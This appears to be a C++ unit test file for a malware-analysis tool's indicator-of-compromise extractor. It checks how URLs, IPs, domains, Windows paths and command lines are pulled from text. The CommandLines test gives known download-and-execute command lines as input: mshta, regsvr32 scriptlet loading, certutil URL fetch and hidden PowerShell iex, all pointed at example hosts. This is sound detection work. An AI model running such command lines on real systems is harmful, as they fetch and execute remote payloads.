// The IOC recognisers (analysis::iocs_from_text) on hand-written text: URL lists glued with separators, IPv4,
// domains against code identifiers, Windows paths and command lines.
#include <gtest/gtest.h>

#include "analysis/iocs.hpp"
#include "support/iocs_helpers.hpp"

namespace {

namespace analysis = mamori::analysis;
using mamori::test::dump;
using mamori::test::values_of;
using Set = std::set<std::string>;

TEST(IocsText, UrlListsAreSplitAtTheirSeparators) {
  const auto iocs = analysis::iocs_from_text(
      "http://a.example.com/x.exe@https://b.example.org/y/,http://10.1.2.3/z;ftp://files.example.net/f "
      "http://c.example.info/p*http://d.example.biz/q!http://e.example.co/r|http://f.example.ru/s",
      "t");
  EXPECT_EQ(values_of(iocs, "url"),
            (Set{"http://a.example.com/x.exe", "https://b.example.org/y/", "http://10.1.2.3/z",
                 "ftp://files.example.net/f", "http://c.example.info/p", "http://d.example.biz/q",
                 "http://e.example.co/r", "http://f.example.ru/s"}))
      << dump(iocs);
  // Hosts inside URLs are not reported again as bare domains or addresses.
  EXPECT_TRUE(values_of(iocs, "domain").empty()) << dump(iocs);
  EXPECT_TRUE(values_of(iocs, "ip").empty()) << dump(iocs);
  for (const auto& i : iocs) EXPECT_EQ(i.where, "t");
}

TEST(IocsText, UrlsNeedAHost) {
  // Half-built strings and non-hosts are not URLs.
  EXPECT_TRUE(analysis::iocs_from_text("http://", "t").empty());
  EXPECT_TRUE(values_of(analysis::iocs_from_text("x = \"http://exa\"", "t"), "url").empty());
  EXPECT_TRUE(values_of(analysis::iocs_from_text("http://-bad-/x", "t"), "url").empty());
  // A userinfo part keeps the URL whole.
  EXPECT_EQ(values_of(analysis::iocs_from_text("'http://user@host.example.com/a'", "t"), "url"),
            Set{"http://user@host.example.com/a"});
}

TEST(IocsText, ReversedUrlsAreReadForwards) {
  const std::string url = "http://rev.example.com/payload";
  const std::string text = "s = \"" + std::string(url.rbegin(), url.rend()) + "\"";
  EXPECT_EQ(values_of(analysis::iocs_from_text(text, "t"), "url"), Set{url});
}

TEST(IocsText, Ipv4) {
  const auto iocs = analysis::iocs_from_text("connect 185.62.188.10:8080 and 8.8.4.4; not 1.2.3.4.5, 300.1.1.1, "
                                             "0.0.0.0 or v10.0.19041.1",
                                             "t");
  EXPECT_EQ(values_of(iocs, "ip"), (Set{"185.62.188.10", "8.8.4.4"})) << dump(iocs);
}

TEST(IocsText, DomainsButNotCodeIdentifiers) {
  const auto iocs = analysis::iocs_from_text(
      "evil-domain.ru cdn.example.com ActiveDocument.Save Application.Run Document.Open file.exe payload.dll "
      "WScript.Shell Scripting.FileSystemObject obj.Open x.Run ThisDocument.Name Shell32.ShellExecute "
      "Me.Caption report.docx",
      "t");
  EXPECT_EQ(values_of(iocs, "domain"), (Set{"evil-domain.ru", "cdn.example.com"})) << dump(iocs);
  // A call or an assignment right after the name is code, whatever the case.
  EXPECT_TRUE(values_of(analysis::iocs_from_text("obj.run(1)\nmain.info = 2\n", "t"), "domain").empty());
}

TEST(IocsText, WindowsPaths) {
  const auto iocs = analysis::iocs_from_text(
      "cmd /c C:\\Users\\Public\\a.exe /c x & copy %APPDATA%\\Microsoft\\up.dll \\\\srv01\\share\\drop.bat "
      "\"C:\\Program Files\\App\\run.exe\"",
      "t");
  EXPECT_EQ(values_of(iocs, "path"), (Set{"C:\\Users\\Public\\a.exe", "%APPDATA%\\Microsoft\\up.dll",
                                          "\\\\srv01\\share\\drop.bat", "C:\\Program Files\\App\\run.exe"}))
      << dump(iocs);
}

TEST(IocsText, CommandLines) {
  const auto iocs = analysis::iocs_from_text(
      "x: cmd.exe /c start calc\n"
      "powershell -nop -w hidden -c \"iex 1\"\n"
      "mshta http://m.example.com/a.hta\n"
      "regsvr32 /s /u /i:http://r.example.com/x.sct scrobj.dll\n"
      "certutil -urlcache -f http://c.example.com/x x.exe\n"
      "the cmd window, a powershell session, rundll32\n"
      "powershell -e\n",
      "t");
  EXPECT_EQ(values_of(iocs, "command"),
            (Set{"cmd.exe /c start calc", "powershell -nop -w hidden -c \"iex 1\"", "mshta http://m.example.com/a.hta",
                 "regsvr32 /s /u /i:http://r.example.com/x.sct scrobj.dll",
                 "certutil -urlcache -f http://c.example.com/x x.exe"}))
      << dump(iocs);
}

TEST(IocsText, MergeDeduplicatesAndCaps) {
  std::vector<mamori::engine::Ioc> a = {{"url", "http://a.example.com/", "w1"}};
  analysis::merge_iocs(a, {{"url", "http://a.example.com/", "w2"}, {"ip", "8.8.8.8", "w3"}});
  ASSERT_EQ(a.size(), 2u);
  EXPECT_EQ(a[0].where, "w1");  // the first place seen is kept
  std::vector<mamori::engine::Ioc> many;
  for (int i = 0; i < 2000; ++i) many.push_back({"ip", "10.0." + std::to_string(i / 256) + "." + std::to_string(i % 256), "w"});
  std::vector<mamori::engine::Ioc> into;
  analysis::merge_iocs(into, many);
  EXPECT_EQ(into.size(), analysis::limits::max_iocs);
}

}  // namespace
